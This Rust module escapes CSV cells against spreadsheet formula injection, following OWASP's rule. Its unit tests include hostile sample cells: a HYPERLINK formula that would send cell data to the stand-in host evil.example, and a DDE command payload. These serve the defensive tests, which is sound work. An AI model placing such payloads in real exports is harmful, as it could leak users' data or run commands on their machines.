//! CSV cells that a spreadsheet shows as written and never runs.
//!
//! A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is taken as a formula by
//! Excel, WPS and LibreOffice, so a unit named `=HYPERLINK(…)` would run when the export is
//! opened. OWASP's rule: such a cell gets a leading `'`, which the spreadsheet hides, and every
//! cell that needs it is quoted. Plain numbers (`-3`, `0.25`) are left as numbers.

/// One CSV cell: neutralised when it could be read as a formula, quoted when it must be.
pub fn cell(s: &str) -> String {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(s);
    let text = if risky {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    };
    if risky || text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.into_owned()
    }
}

/// One CSV line (without its line break) of the given cells.
pub fn row<I, S>(cells: I) -> String
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    cells
        .into_iter()
        .map(|c| cell(c.as_ref()))
        .collect::<Vec<_>>()
        .join(",")
}

/// `-12`, `+3`, `0.25`: digits with at most one point and an optional sign, nothing else.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let frac = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_quoted() {
        assert_eq!(
            cell(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
        );
        assert_eq!(cell(r#"=cmd|"/c calc"!A1"#), r#""'=cmd|""/c calc""!A1""#);
        for s in [
            "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "+", "=", "-inf", "-1e5",
        ] {
            let c = cell(s);
            assert!(c.starts_with("\"'"), "{s:?} → {c:?}");
        }
    }

    #[test]
    fn ordinary_cells_and_numbers_are_left_alone() {
        assert_eq!(cell("市城管局"), "市城管局");
        assert_eq!(cell("-3"), "-3");
        assert_eq!(cell("+3"), "+3");
        assert_eq!(cell("0.25"), "0.25");
        assert_eq!(cell("-0.25"), "-0.25");
        assert_eq!(cell(""), "");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(row(["1", "=x", "y"]), "1,\"'=x\",y");
    }
}
